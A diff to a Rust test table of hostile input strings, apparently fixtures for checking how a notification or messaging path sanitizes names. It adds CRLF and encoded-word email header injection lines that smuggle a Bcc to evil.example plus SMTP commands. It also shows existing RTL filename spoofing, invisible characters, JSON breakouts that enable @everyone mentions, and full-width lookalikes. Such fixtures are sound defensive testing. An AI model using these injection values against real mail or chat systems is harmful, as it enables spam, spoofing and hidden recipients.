@@ -38,6 +38,8 @@ const TEXTS: &[(&str, &str)] = &[
     ("turned around", "N \u{202e}gnp.exe\u{202c} \u{2066}x\u{2069} \u{200f}\u{61c}"),
     ("unseen", "N a\u{200b}b\u{feff}c\u{ad}d\u{0}e"),
     ("stacked", "N z\u{351}\u{36b}\u{343}\u{36a}\u{302}\u{36b}\u{33d}\u{34f}\u{334}\u{319}\u{324}\u{31e}\u{349}"),
+    ("headers", "N\r\nBcc: e@evil.example\r\n\r\n--=_0\r\nContent-Type: text/html\r\n\r\n<b>x</b>\r\n.\r\nQUIT\r\n"),
+    ("encoded words", "N =?utf-8?q?=0D=0ABcc:_e@evil.example?= =?utf-8?b?PGI+?= =3Cb=3E"),
     ("json", "N \"},\"allowed_mentions\":{\"parse\":[\"everyone\"]},{\"x\":\""),
     ("full width", "N ＠everyone ＃x ［x］（https：//evil.example）"),
 ];
